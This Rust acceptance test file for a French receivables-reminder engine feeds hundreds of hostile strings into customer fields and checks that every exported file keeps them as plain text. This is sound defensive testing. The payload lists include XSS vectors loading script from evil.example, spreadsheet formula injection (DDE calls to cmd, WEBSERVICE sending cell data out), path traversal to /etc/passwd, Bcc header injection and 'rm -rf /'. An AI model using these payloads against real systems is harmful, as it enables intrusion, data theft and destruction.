//! Whatever a stranger writes in a ledger stays text in every file taken out (reliability.md R-31 to R-37): 200 pieces of
//! HTML, 300 formulas, 150 names, line ends in every field. Readers that are not ours open the files and look.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, clippy::print_stdout)]

use acceptance::fixtures;
use engine::{InputFile, Session};
use protocol::{CallResult, Channel, DraftsQuery, ExportQuery, OpenOptions, Sender};
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;
use text::Language;

/// HTML that would run, fetch, or leave its element.
fn markup() -> Vec<String> {
    let mut all = Vec::new();
    let handlers =
        ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter"];
    let elements = [
        "img src=x",
        "svg",
        "body",
        "details open",
        "input autofocus",
        "video src=x",
        "iframe srcdoc=x",
        "math",
        "a href=#",
        "marquee",
    ];
    for element in elements {
        for handler in handlers {
            all.push(format!("<{element} {handler}=alert(1)>"));
        }
    }
    let scripts = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ];
    let closers = [
        "",
        "\">",
        "'>",
        "</td>",
        "</title>",
        "</style>",
        "</textarea>",
        "</bdi></td></tr></table>",
        "-->",
        "]]>",
        "&lt;/td&gt;",
        "</svg>",
    ];
    for closer in closers {
        all.extend(scripts.iter().map(|script| format!("{closer}{script}")));
    }
    for scheme in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example",
    ] {
        for tag in [
            "a href",
            "form action",
            "iframe src",
            "object data",
            "base href",
            "link rel=stylesheet href",
            "embed src",
            "meta http-equiv=refresh content",
        ] {
            all.push(format!("<{tag}=\"{scheme}\">"));
        }
    }
    for encoded in [
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&lt;img src=x onerror=alert(1)&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003e",
        "＜script＞",
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>]]>",
        "<?xml version=\"1.0\"?>",
        "<style>@import '//evil.example/x.css'</style>",
        "<p style=\"background:url(//evil.example/x)\">",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "` onmouseover=`alert(1)",
        "<svg><use href=\"data:image/svg+xml,x\"/></svg>",
        "<template><script>alert(1)</script></template>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ] {
        all.push(encoded.to_owned());
        all.push(format!("ACME {encoded} SARL"));
        all.push(format!("{encoded}&amp;"));
    }
    all
}

/// What a spreadsheet would compute.
fn formulas() -> Vec<String> {
    let starts = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "=+",
        "|",
        "%0A=",
        ";=",
        ",=",
        "\"=",
        "'=",
        "\u{FEFF}=",
        "＝",
        "\u{200B}=",
    ];
    let bodies = [
        "1+1",
        "cmd|'/C calc'!A0",
        "HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
        "WEBSERVICE(\"http://evil.example/\"&A1)",
        "IMPORTXML(\"http://evil.example\",\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "SUM(1+1)*cmd|' /C calc'!A0",
        "INDIRECT(\"A1\")",
        "IMAGE(\"http://evil.example/x.png\")",
        "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "rundll32|'URL.dll,OpenURL calc'!A",
        "IFERROR(1/0,cmd|'/C calc'!A0)",
        "10+20+cmd|' /C calc'!A0",
        "FILTERXML(\"<a/>\",\"//a\")",
        "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
        "REGISTER.ID(\"x\",\"y\")",
        "A1",
        "2",
    ];
    starts.iter().flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}"))).collect()
}

/// Names that would become a path, a header, a template, a line of another format, or be read backwards.
fn names() -> Vec<String> {
    let mut all: Vec<String> = [
        "../../etc/passwd",
        "..\\..\\windows\\system32",
        "/etc/passwd",
        "C:\\CON",
        "\\\\evil\\share",
        "file.txt:stream",
        "a/b/c",
        "....//....//",
        "%2e%2e%2f",
        "x\0y",
        "x\u{202E}gpj.exe",
        "x\u{2066}y\u{2069}",
        "\u{200B}",
        "\u{FEFF}x",
        "e\u{301}\u{301}\u{301}",
        "👨‍👩‍👧‍👦",
        "ﷺ",
        "ß",
        "İ",
        "ı",
        " ",
        ".",
        "..",
        "...",
        "-",
        "--help",
        "~",
        "*",
        "?",
        "|",
        "\"",
        "'",
        "`",
        "\\",
        "//",
        "{{ 7 * 7 }}",
        "{% for x in y %}",
        "{# x #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7 %>",
        "{{ customer }}",
        "{{ sender.iban }}",
        "%s%s%n",
        "{0}",
        "{}",
        "%(x)s",
        "$(calc)",
        "`calc`",
        "; rm -rf /",
        "&& calc",
        "| calc",
        "\nFrom evil@evil.example\n",
        "From me",
        "x\r\nBcc: evil@evil.example",
        "x\nBcc: evil@evil.example",
        "x\rBcc: evil@evil.example",
        "x\r\n\r\n<script>alert(1)</script>",
        "x%0d%0aBcc: evil@evil.example",
        "=?utf-8?q?x=0D=0ABcc:_evil@evil.example?=",
        "a@b.example, evil@evil.example",
        "\"x\" <evil@evil.example>",
        "<evil@evil.example>",
        "x>, <evil@evil.example",
        "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
        "x\\nEND:VCALENDAR",
        "x;VALUE=URI:http://evil.example",
        "X:Y;Z,W",
        "ATTACH:http://evil.example",
        "x\u{2028}y",
        "x\u{2029}y",
        "x\u{85}y",
        "x\u{b}y",
        "x\u{c}y",
        "x\u{1b}[31my",
        "x\u{7f}y",
        "x\u{8}\u{8}\u{8}y",
        "';DROP TABLE customers;--",
        "\",\"injected\",\"",
        "x;y;z",
        "x\ty",
        "x\"\"y",
        "\u{FFFD}",
        "\u{E000}",
        "\u{10FFFF}",
        "nul\u{FE0F}l",
        "__proto__",
        "constructor",
        "toString",
        "null",
        "undefined",
        "NaN",
        "true",
        "0",
        "-0",
        "1e309",
        "0x41",
        "1/2",
        "1-2",
        "2026-01-01",
        "00123",
        "1,5",
        "1.5",
        "€",
        "100%",
        "Total général",
        "Solde",
        "Report",
        "À reporter",
        "Object",
        "N'Golo",
        "O'Brien & Sons",
        "A&B",
        "<Société>",
        "Dupont \"le grand\"",
        "[x](javascript:alert(1))",
        "**x**",
        "# x",
        "| a | b |",
        "![x](http://evil.example)",
        "\\documentclass",
        "%PDF-1.7",
        "PK\u{3}\u{4}",
        "MZ",
        "#!/bin/sh",
    ]
    .map(str::to_owned)
    .into();
    for reserved in ["CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "con.txt", "nul ", "aux."] {
        all.push(reserved.to_owned());
        all.push(format!("{reserved}.csv"));
    }
    all.extend([
        "A".repeat(300),
        "é".repeat(400),
        "x ".repeat(500),
        "<".repeat(200),
        "=".repeat(200),
        "\"".repeat(201),
        "../".repeat(60),
    ]);
    all
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// One customer for each piece, which stands in every field of it that a stranger writes.
fn session(pieces: &[String]) -> Session {
    let mut customers = "Code client;Raison sociale;Contact;SIREN;Adresse;Code postal;Ville;Pays;E-mail;Téléphone;Segment;Groupe;Commercial\n".to_owned();
    let mut ledger = "Code client;Nom;Type;Pièce;Date;Échéance;Libellé;Montant;Commercial\n".to_owned();
    // Days late that call for a message, a call, a letter and a formal notice by the policy below.
    let due = ["2026-09-28", "2026-09-18", "2026-09-10", "2026-08-16"];
    for (number, piece) in pieces.iter().enumerate() {
        let code = format!("K{number:04}");
        let cell = quoted(piece);
        // An address that is none leaves the message without one; one in three is sound.
        let mail = if number % 3 == 0 {
            quoted(&format!("k{number}@client.example{piece}"))
        } else {
            format!("k{number}@client.example")
        };
        customers.push_str(&format!(
            "{code};{cell};{cell};{cell};{cell};75001;{cell};{cell};{mail};{cell};{cell};{cell};{cell}\n"
        ));
        let due = due[number % due.len()];
        ledger.push_str(&format!("{code};{cell};FAC;{cell};2026-07-01;{due};{cell};{},50;{cell}\n", 100 + number));
    }
    let files = vec![
        InputFile::in_memory("=clients<b>.csv".to_owned(), customers.into_bytes()),
        InputFile::in_memory("../pieces\"onload=x.csv".to_owned(), ledger.into_bytes()),
    ];
    Session::open(files, &OpenOptions::default(), Language::Fr, &mut |_| {})
        .unwrap_or_else(|failure| panic!("{failure:?}"))
}

const POLICY: &str = r#"{
  "version": 2, "id": "means", "name": { "fr": "Tous les moyens", "en": "Every means" },
  "limits": { "minimumAmount": 100, "daysBetweenContacts": 5, "contactsPer30Days": 4, "daysBeforeRepeat": 15, "contactData": "assumed" },
  "calendar": { "shift": "next", "holidays": "french", "weekend": [6, 7] },
  "costs": { "email": 125, "letter": 125, "registered-letter": 800, "phone": 1250, "sms": 15, "internal": 0 },
  "scenarios": [ { "id": "standard", "name": { "fr": "Standard", "en": "Standard" }, "steps": [
    { "name": { "fr": "Première relance", "en": "First reminder" }, "id": "first", "days": 1, "channel": "email", "template": "email_first_reminder", "tone": "courtesy" },
    { "name": { "fr": "Appel", "en": "Call" }, "id": "call", "days": 10, "channel": "phone", "template": "phone_call", "tone": "dialogue" },
    { "name": { "fr": "Deuxième relance", "en": "Second reminder" }, "id": "second", "days": 15, "channel": "letter", "template": "email_second_reminder", "tone": "reminder" },
    { "name": { "fr": "Mise en demeure", "en": "Formal notice" }, "id": "formal", "days": 30, "channel": "registered-letter", "template": "letter_formal_notice", "tone": "last-notice", "claims": ["interest", "indemnity"] }
  ] } ]
}"#;

fn sender(piece: &str) -> Sender {
    Sender {
        company: piece.to_owned(),
        name: piece.to_owned(),
        address: piece.to_owned(),
        registry: piece.to_owned(),
        ..Sender::default()
    }
}

/// Every kind of file, as the refusal of an unknown one lists them.
fn kinds(session: &Session, query: &ExportQuery) -> Vec<String> {
    let unknown = ExportQuery { kind: "none".to_owned(), ..query.clone() };
    let failure = session.export(&unknown, Language::En, &mut |_| {}).unwrap_err();
    let words = format!("{} {}", failure.message, failure.advice);
    let words = words.split(|character: char| character.is_whitespace() || ",;:“”\"'".contains(character));
    let named: BTreeSet<String> = words
        .map(|word| word.trim_end_matches('.').to_owned())
        .filter(|word| word.contains('.') && word.len() > 5)
        .collect();
    named.into_iter().collect()
}

fn write_all(session: &Session, folder: &Path, piece: &str) -> usize {
    let query: ExportQuery =
        serde_json::from_value(serde_json::json!({ "kind": "report.html", "asOf": "2026-09-30" })).unwrap();
    let query =
        ExportQuery { policy: Some(POLICY.to_owned()), sender: Some(sender(piece)), stale_acknowledged: true, ..query };
    let kinds = kinds(session, &query);
    assert!(kinds.len() >= 14, "{kinds:?}");
    let asked = DraftsQuery {
        policy: query.policy.clone(),
        ..serde_json::from_value(serde_json::json!({ "asOf": "2026-09-30" })).unwrap()
    };
    let drafts = session.drafts(&asked, Language::Fr).unwrap();
    let email = drafts.into_iter().find(|draft| draft.channel == Channel::Email).map(|draft| draft.action);
    let mut written = 0;
    for kind in &kinds {
        // Some files are about one file or one customer: both are named.
        let of = |file: Option<&str>, customer: Option<&str>| ExportQuery {
            kind: kind.clone(),
            action: email.clone().filter(|_| kind == "draft.eml"),
            plan: (kind == "agreement.html").then_some(1),
            file: file.map(str::to_owned),
            customer: customer.map(str::to_owned),
            ..query.clone()
        };
        let asked = [of(None, None), of(Some("=clients<b>.csv"), None), of(None, Some("K0001"))];
        let answers: Vec<_> = asked.iter().map(|asked| session.export(asked, Language::Fr, &mut |_| {})).collect();
        let refused = format!("{kind}: {:?}", answers.iter().find_map(|answer| answer.as_ref().err()));
        let made = answers.into_iter().find_map(Result::ok).unwrap_or_else(|| panic!("{refused}"));
        assert!(made.name.chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c)), "{}", made.name);
        std::fs::write(folder.join(format!("{written:02}-{kind}")), made.bytes).unwrap();
        written += 1;
    }
    written
}

/// What the Python of this machine, or Debian's beside it, finds: the one with openpyxl where there is one.
fn read_elsewhere(folder: &Path) -> serde_json::Value {
    let script = fixtures::path("oracle/read_hostile.py");
    let mut answers = ["/usr/bin/python3", "python3"].iter().filter_map(|python| {
        let output = Command::new(python).arg("-B").arg(&script).arg(folder).output().ok()?;
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        serde_json::from_slice::<serde_json::Value>(&output.stdout).ok()
    });
    let first = answers.next().unwrap_or_else(|| panic!("python3 is needed"));
    if first["openpyxl"] == true {
        return first;
    }
    let second = answers.next().unwrap_or(first);
    if second["openpyxl"] != true {
        println!(
            "workbooks opened as archives only: no python3 with openpyxl; `cargo xtask test` installs python3-openpyxl where it may"
        );
    }
    second
}

fn check(pieces: &[String], least: usize) {
    let distinct: BTreeSet<&String> = pieces.iter().collect();
    assert!(distinct.len() >= least, "{} pieces", distinct.len());
    let mut session = session(pieces);
    // An agreement names its customer and documents as well.
    let agreed: CallResult = serde_json::from_value(serde_json::json!({
        "customer": "K0002", "asOf": "2026-09-28", "outcome": "plan", "day": "2026-10-31", "policy": POLICY
    }))
    .unwrap();
    session.called(&agreed, Language::Fr).unwrap();
    let folder = std::env::temp_dir().join(format!("encours-injection-{least}-{}", std::process::id()));
    std::fs::create_dir_all(&folder).unwrap();
    let written = write_all(&session, &folder, &pieces[least / 2]);
    let found = read_elsewhere(&folder);
    if std::env::var_os("ENCOURS_KEEP").is_none() {
        std::fs::remove_dir_all(&folder).unwrap();
    }
    let faults: Vec<&str> = found["faults"].as_array().unwrap().iter().map(|fault| fault.as_str().unwrap()).collect();
    assert!(
        faults.is_empty(),
        "{} faults\n{}",
        faults.len(),
        faults.iter().take(40).copied().collect::<Vec<_>>().join("\n")
    );
    println!("{written} files, read: {}", found["read"]);
    assert!(found["read"]["eml"].as_u64() > Some(20) && found["read"]["html"].as_u64() > Some(20), "{found}");
}

#[test]
fn two_hundred_pieces_of_html_stay_text_in_every_file() {
    check(&markup(), 200);
}

#[test]
fn three_hundred_formulas_stay_text_in_every_file() {
    check(&formulas(), 300);
}

#[test]
fn names_become_no_path_no_header_no_template_and_no_line() {
    check(&names(), 150);
}
